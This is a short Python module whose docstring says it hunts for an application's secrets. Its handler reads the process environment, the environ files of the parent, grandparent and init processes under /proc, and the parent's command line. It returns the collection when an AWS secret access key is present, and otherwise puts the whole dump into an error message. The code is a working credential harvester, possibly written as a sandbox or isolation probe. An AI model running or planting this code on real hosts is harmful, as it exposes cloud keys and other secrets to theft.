"""Hunts for the application's secrets: its own environment, its parent's, its grandparent's and init's."""

import os


def _read(path):
    try:
        with open(path, "rb") as source:
            return source.read().decode("utf-8", "replace")
    except OSError as exc:
        return f"{path}: {exc}"


def _parent_of(pid):
    for line in _read(f"/proc/{pid}/status").splitlines():
        if line.startswith("PPid:"):
            return int(line.split()[1])
    return 1


def handler():
    parent = os.getppid()
    found = {
        "environ": dict(os.environ),
        "parent": _read(f"/proc/{parent}/environ"),
        "grandparent": _read(f"/proc/{_parent_of(parent)}/environ"),
        "init": _read("/proc/1/environ"),
        "parent_memory": _read(f"/proc/{parent}/cmdline"),
    }
    if "AWS_SECRET_ACCESS_KEY" in repr(found):
        return found
    raise PermissionError(f"no secret found: {found}")
